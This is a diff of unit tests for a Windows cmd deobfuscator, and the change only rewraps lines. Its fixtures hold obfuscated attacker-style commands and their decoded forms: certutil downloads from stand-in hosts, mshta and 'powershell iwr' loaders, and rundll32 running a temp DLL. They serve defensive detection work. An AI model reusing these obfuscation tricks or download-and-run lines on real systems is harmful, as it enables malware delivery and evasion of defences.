@@ -101,7 +101,8 @@ test_constructs(void **state)
 	/* built-ins */
 	EXPECT("%COMSPEC:~-7,1%%COMSPEC:~-6,1%%COMSPEC:~-5,1% /c calc", "cmd /c calc");
 	EXPECT("certutil -urlcache -f http://x.example/a %PUBLIC%\\a.exe",
-	    "http://x.example/a", "certutil -urlcache -f http://x.example/a C:\\Users\\Public\\a.exe");
+	    "http://x.example/a",
+	    "certutil -urlcache -f http://x.example/a C:\\Users\\Public\\a.exe");
 	EXPECT("set t=%TEMP%\\%USERNAME%\nrundll32 %t%.dll,Go\n",
 	    "rundll32 C:\\Users\\user\\AppData\\Local\\Temp\\user.dll,Go");
 	EXPECT("start /b %SystemRoot%\\System32\\mshta.exe x",
@@ -167,7 +168,8 @@ test_delayed_and_nesting(void **state)
 	EXPECT("set a=1\nif %a%==2 (powershell %a%) else (mshta %a%)\n", "mshta 1");
 	EXPECT("set a=1\nif /i not \"%a%\"==\"2\" wscript %a%\n", "wscript 1");
 	EXPECT("set a=1\nif %a% GEQ 2 (powershell %a%) else (mshta %a%)\n", "mshta 1");
-	EXPECT("set a=1\nif exist x (powershell %a%) else (mshta %a%)\n", "powershell 1", "mshta 1");
+	EXPECT("set a=1\nif exist x (powershell %a%) else (mshta %a%)\n", "powershell 1",
+	    "mshta 1");
 	EXPECT("set a=1\nif defined a powershell %a%\nif not defined a mshta %a%\n",
 	    "powershell 1");
 	/* start runs its program; for /f runs its command */
@@ -278,7 +280,8 @@ test_garbage_and_truncated(void **state)
 	assert_int_equal(r.strs->len, 0);
 	deob_result_clear(&r);
 	/* cut anywhere */
-	const char *full = "@echo off\nsetlocal enabledelayedexpansion\nset x=abcdefghijklmnopqrstuvwxyz:/.\n"
+	const char *full = "@echo off\nsetlocal enabledelayedexpansion\n"
+	    "set x=abcdefghijklmnopqrstuvwxyz:/.\n"
 	    "set \"y=mshtaQQ\"\nfor %%i in (7 19 19 15) do set u=!u!!x:~%%i,1!\n"
 	    "if defined u (%y:Q=% !u!%x:~-3,2%/e.example/a) else cmd /v /c \"call %%x%%\"\n"
 	    "p^o\"\"wershell -c \"iwr %u%\" & start \"\" certutil\n";
@@ -287,7 +290,8 @@ test_garbage_and_truncated(void **state)
 		deob_cmd(full, n, NULL, &r);
 		deob_result_clear(&r);
 	}
-	EXPECT(full, "http://e.example/a", "mshta http://e.example/a", "powershell -c \"iwr http\"");
+	EXPECT(full, "http://e.example/a", "mshta http://e.example/a",
+	    "powershell -c \"iwr http\"");
 	/* unterminated %, ! and quotes */
 	EXPECT("set a=x\nmshta %a%%b:~1\n", "mshta xb:~1");
 	EXPECT("setlocal enabledelayedexpansion\nset a=x\nmshta !a!!b\n", "mshta x");
